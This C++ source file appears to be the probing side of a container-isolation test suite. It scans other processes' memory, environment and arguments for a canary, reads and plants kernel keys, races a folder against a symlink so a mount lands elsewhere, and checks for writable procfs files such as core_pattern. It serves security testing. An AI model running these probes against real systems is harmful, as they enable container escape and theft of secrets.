// What a container finds: in /proc, in its neighbours' memory, in keyrings, in a folder behind a
// descriptor, and a shared root folder in which it exchanges what others are about to mount on.
#include "kinds.hpp"
#include "thief.hpp"

#include <cerrno>
#include <climits>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <set>
#include <vector>

#include <fcntl.h>
#include <linux/fs.h>
#include <linux/keyctl.h>
#include <linux/magic.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

namespace thief {
namespace {

constexpr std::size_t kMostOfOneRange = 4U << 20U;

bool holds(const std::string& text, const std::string& canary) {
    return text.find(canary) != std::string::npos;
}

/// Everything writable and private that the process has mapped.
bool memory_holds(pid_t pid, const std::string& canary) {
    const auto folder = "/proc/" + std::to_string(pid);
    const int memory = open((folder + "/mem").c_str(), O_RDONLY | O_CLOEXEC);
    if (memory < 0) return false;
    bool found = false;
    const auto maps = slurp(folder + "/maps");
    for (std::size_t at = 0; at < maps.size() && !found;) {
        const auto end = maps.find('\n', at);
        unsigned long from = 0, to = 0;
        char rights[5]{};
        if (std::sscanf(maps.c_str() + at, "%lx-%lx %4s", &from, &to, rights) == 3 &&
            rights[0] == 'r' && rights[1] == 'w') {
            std::string text(std::min<std::size_t>(to - from, kMostOfOneRange), '\0');
            const auto got = pread(memory, text.data(), text.size(), static_cast<off_t>(from));
            if (got > 0) found = holds(text.substr(0, static_cast<std::size_t>(got)), canary);
        }
        if (end == std::string::npos) break;
        at = end + 1;
    }
    close(memory);
    return found;
}

long key_call(int operation, unsigned long one = 0, unsigned long two = 0, unsigned long three = 0,
              unsigned long four = 0) {
    return syscall(SYS_keyctl, operation, one, two, three, four);
}

unsigned long ring(int number) {
    return static_cast<unsigned long>(static_cast<long>(number));
}

unsigned long address(const void* pointer) {
    return reinterpret_cast<unsigned long>(pointer);
}

/// A mask that does not mask, or a read-only path that is not.
void look_at(const std::string& mount) {
    const int proc = open(mount.c_str(), O_PATH | O_DIRECTORY | O_CLOEXEC);
    struct statfs status {};
    if (proc < 0 || fstatfs(proc, &status) != 0) return;
    const bool is_proc = status.f_type == PROC_SUPER_MAGIC, is_sys = status.f_type == SYSFS_MAGIC;
    for (const char* path : {"sys/kernel/core_pattern", "sysrq-trigger", "kernel/profiling"}) {
        const int file = is_proc || is_sys ? openat(proc, path, O_WRONLY | O_CLOEXEC) : -1;
        if (file >= 0) say("WON writable " + mount + "/" + path);
        if (file >= 0) close(file);
    }
    for (const char* path : {"keys", "timer_list", "firmware/acpi/tables"}) {
        char byte = 0;
        const int file = is_proc || is_sys ? openat(proc, path, O_RDONLY | O_CLOEXEC) : -1;
        if (file >= 0 && read(file, &byte, 1) > 0) say("WON readable " + mount + "/" + path);
        if (file >= 0) close(file);
    }
    close(proc);
}

}  // namespace

/// search SECONDS CANARY: the canary in environments, arguments and memory of everybody in sight.
/// The canary comes with its first letter apart, so that this process's own words do not hold it.
int search_memory(const Arguments& words) {
    const auto canary = words.at(1) + words.at(2);
    const double end = now() + static_cast<double>(number(words.at(0)));
    std::set<std::string> told;
    long looks = 0;
    while (now() < end) {
        for (const auto pid : processes()) {
            if (pid == getpid() || is_same_program(pid)) continue;
            const auto folder = "/proc/" + std::to_string(pid);
            for (const char* file : {"/environ", "/cmdline"})
                if (holds(slurp(folder + file), canary) && told.insert(name_of(pid) + file).second)
                    say("WON " + name_of(pid) + file);
            if (memory_holds(pid, canary) && told.insert(name_of(pid) + "/mem").second)
                say("WON " + name_of(pid) + "/mem");
            ++looks;
        }
        usleep(500);
    }
    say("TRIED " + std::to_string(looks) + " looks");
    return 0;
}

/// key-add NAME TEXT: into its own session keyring.
int key_add(const Arguments& words) {
    const long key = syscall(SYS_add_key, "user", words.at(0).c_str(), words.at(1).c_str(),
                             words.at(1).size(), KEY_SPEC_SESSION_KEYRING);
    // For everybody who may find it: the owner's user has it as the possessor.
    if (key > 0) key_call(KEYCTL_SETPERM, static_cast<unsigned long>(key), 0x3f3f3f3f);
    say(key > 0 ? "GOT key " + std::to_string(key) : "TRIED key: " + errno_name());
    return key > 0 ? 0 : 1;
}

/// key-find NAME: in its session keyring and its user's.
int key_find(const Arguments& words) {
    for (const int where : {KEY_SPEC_SESSION_KEYRING, KEY_SPEC_USER_SESSION_KEYRING}) {
        const long key =
            key_call(KEYCTL_SEARCH, ring(where), address("user"), address(words.at(0).c_str()), 0);
        if (key <= 0) continue;
        std::string text(1000, '\0');
        const long got = key_call(KEYCTL_READ, static_cast<unsigned long>(key),
                                  address(text.data()), text.size());
        say("WON key " + (got > 0 ? text.substr(0, static_cast<std::size_t>(got)) : "unreadable"));
        return 0;
    }
    say("TRIED keys");
    return 0;
}

/// exchange SECONDS FOLDER NAME TARGET: NAME is a folder one moment and a symlink to TARGET the
/// next.
int exchange(const Arguments& words) {
    const auto path = words.at(1) + "/" + words.at(2), other = path + ".other";
    (void)symlink(words.at(3).c_str(), other.c_str());
    say("ready");
    for (const double end = now() + static_cast<double>(number(words.at(0))); now() < end;)
        if (renameat2(AT_FDCWD, path.c_str(), AT_FDCWD, other.c_str(), RENAME_EXCHANGE) != 0) {
            say("TRIED to exchange: " + errno_name());
            return 1;
        }
    return 0;
}

/// look CANARY PROC...: what a container with default masks must not be able to do, tried for a
/// while, wherever its procfs may be just now.
int look(const Arguments& words) {
    char where[PATH_MAX]{};
    if (syscall(SYS_getcwd, where, sizeof where) > 0 && where[0] != '/')
        say(std::string{"WON a working directory out of its root: "} + where);
    const int folder = open(".", O_PATH | O_DIRECTORY | O_CLOEXEC);
    set_canary(words.at(0));
    if (folder >= 0) loot_folder(folder, "the working directory");
    for (int tries = 0; tries < 30; ++tries, wait_a_moment(1))
        for (std::size_t at = 1; at < words.size(); ++at)
            look_at(words[at]);
    say("TRIED all");
    return 0;
}

/// read-below FD PATH: a file beneath a descriptor that is a folder.
int read_below(const Arguments& words) {
    const int file =
        openat(static_cast<int>(number(words.at(0))), words.at(1).c_str(), O_RDONLY | O_CLOEXEC);
    if (file < 0) {
        say("TRIED " + errno_name());
        return 0;
    }
    char text[256]{};
    (void)!read(file, text, sizeof text - 1);
    say(std::string{"WON read "} + text);
    return 0;
}

}  // namespace thief
